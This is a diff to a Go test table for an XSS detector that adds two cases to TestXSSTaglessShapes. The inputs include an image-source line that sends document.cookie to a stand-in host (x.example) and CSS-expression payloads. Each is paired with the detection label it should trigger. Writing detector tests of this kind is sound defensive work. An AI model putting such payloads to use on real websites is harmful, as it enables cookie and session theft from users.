@@ -194,6 +194,8 @@ func TestXSSTaglessShapes(t *testing.T) {
 		{"cookie alone", "document.cookie", "xss.js_sink"},
 		{"cookie upper case, blanks", " DOCUMENT.COOKIE; ", "xss.js_sink"},
 		{"cookies", "document.cookies", ""},
+		{"cookie concatenated last", "i.src='//x.example/?'+document.cookie", "xss.js_sink"},
+		{"cookie ending prose", "see the document.cookie", ""},
 		{"cookie in a sentence", "read my document.cookie notes", ""},
 		{"moz binding", "-moz-binding: url(//x.example/b.xml#x)", "xss.css_expression"},
 		{"behavior url", "x{behavior:url(#default#time2)}", "xss.css_expression"},
